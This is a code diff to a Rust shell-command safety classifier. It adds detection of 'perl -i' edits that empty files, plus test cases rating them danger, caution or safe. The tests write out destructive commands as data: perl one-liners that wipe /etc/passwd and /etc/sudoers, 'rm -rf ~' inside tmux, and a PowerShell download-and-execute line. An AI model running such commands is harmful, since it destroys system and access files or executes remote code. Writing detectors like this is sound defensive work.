@@ -75,6 +75,53 @@ fn perl_in_place(name: &str, ctx: &Ctx, acc: &mut Acc) {
     });
     if in_place {
         acc.caution(format!("{name} -i edits files in place"));
+        if name == "perl" {
+            perl_empties(ctx.args, acc);
+        }
+    }
+}
+
+/// `perl -i -ne 'print if 0' FILE`, `perl -i -pe '$_ = ""' FILE`: every line
+/// of FILE is dropped. On a system or access file that is danger, as for
+/// `sed -i '1,$d'`.
+fn perl_empties(args: &[&str], acc: &mut Acc) {
+    let cluster = |a: &str| -> String {
+        if a.starts_with('-') && !a.starts_with("--") {
+            a[1..].chars().take_while(|c| *c != '.').collect()
+        } else {
+            String::new()
+        }
+    };
+    let Some(ci) = args.iter().position(|a| cluster(a).ends_with('e')) else {
+        return;
+    };
+    let Some(code) = args.get(ci + 1) else {
+        return;
+    };
+    let prints = args[..=ci].iter().any(|a| cluster(a).contains('p'));
+    let code_ns: String = code.chars().filter(|c| !c.is_whitespace()).collect();
+    let empties = if prints {
+        matches!(
+            code_ns.trim_end_matches(';'),
+            "$_=\"\"" | "$_=''" | "undef$_" | "$_=undef" | "s/.*//s" | "s/^.*$//s"
+        )
+    } else {
+        !code_ns.contains("print") && !code_ns.contains("say")
+            || matches!(
+                code_ns.trim_end_matches(';'),
+                "printif0" | "printunless1" | "printif/^$/"
+            )
+    };
+    if !empties {
+        return;
+    }
+    let vital = |t: &str| is_critical_file(t) || is_system_file(t) || is_access_file(t);
+    if let Some(f) = args[ci + 2..].iter().find(|a| vital(a)) {
+        acc.danger(format!(
+            "perl -i deletes every line of {f}, a system or access file"
+        ));
+    } else {
+        acc.caution("perl -i empties the files");
     }
 }
 
@@ -728,6 +775,14 @@ mod tests {
     fn examples() {
         check_examples(&[
             ("tmux new -d 'rm -rf ~'", Danger),
+            // perl -i emptying a system file, and edits that keep the lines.
+            ("perl -i -ne 'print if 0' /etc/passwd", Danger),
+            ("perl -i.bak -pe '$_ = \"\"' /etc/fstab", Danger),
+            ("perl -ni -e '' /etc/sudoers", Danger),
+            ("perl -i -ne 'print unless /^#/' /etc/hosts", Caution),
+            ("perl -i -pe 's/foo/bar/' /etc/hosts", Caution),
+            ("perl -i -ne 'print if 0' notes.txt", Caution),
+            ("perl -ne 'print if 0' /etc/passwd", Safe),
             // PowerShell: a download run, trees deleted, and look-alikes.
             ("pwsh -c \"iex (iwr https://get.example/i.ps1)\"", Danger),
             (
